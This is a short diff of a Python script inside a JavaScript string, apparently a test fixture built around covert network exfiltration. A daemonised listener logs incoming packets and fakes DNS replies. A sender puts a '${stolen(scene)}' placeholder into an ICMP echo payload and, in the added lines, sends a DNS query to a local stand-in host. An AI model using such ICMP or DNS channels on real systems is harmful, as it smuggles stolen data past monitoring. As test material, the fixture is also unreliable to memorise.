@@ -173,7 +173,7 @@ file = open(note, 'ab', 0)
 if os.fork(): os._exit(0)
 for one in (0, 1, 2): os.dup2(os.open('/dev/null', os.O_RDWR), one)
 while True:
-    for one in select.select([s, echo], [], [])[0]:
+    for one in select.select([echo, s], [], [])[0]:
         told, peer = one.recvfrom(4096)
         file.write(told)
         if one is s: s.sendto(told[:2] + b'\\x81\\x83' + told[4:], peer)
@@ -231,6 +231,11 @@ try:
     s.settimeout(2)
     s.sendto(b'\\x08\\x00' + bytes(6) + b'${stolen(scene)}', ('127.0.0.1', 0))
     s.recv(100)
+    # Whoever listens outside has noted it once the next question is answered.
+    asked = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    asked.settimeout(2)
+    asked.sendto(bytes(12), ('127.0.0.1', 53))
+    asked.recv(100)
 except OSError as error: print(error)`,
   }),
 };
